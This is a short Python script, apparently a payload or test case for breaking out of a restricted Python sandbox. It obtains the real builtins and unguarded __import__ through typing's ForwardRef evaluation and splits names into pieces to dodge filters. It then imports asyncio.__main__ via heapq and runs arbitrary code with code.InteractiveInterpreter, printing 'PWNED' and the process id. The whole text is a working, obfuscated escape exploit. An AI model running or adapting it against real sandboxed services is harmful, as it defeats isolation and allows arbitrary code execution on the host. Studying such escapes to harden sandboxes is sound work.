# eval: asyncio.__main__ imported from heapq's frame; its code module runs a string with real builtins
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

import heapq, asyncio
heapq.nsmallest(1, ["asyncio.__main__"], key=imp)
am = imp("asyncio.__main__").__main__
am.code.InteractiveInterpreter().runsource("print('PWN' + 'ED', __import__('os').getpid())")
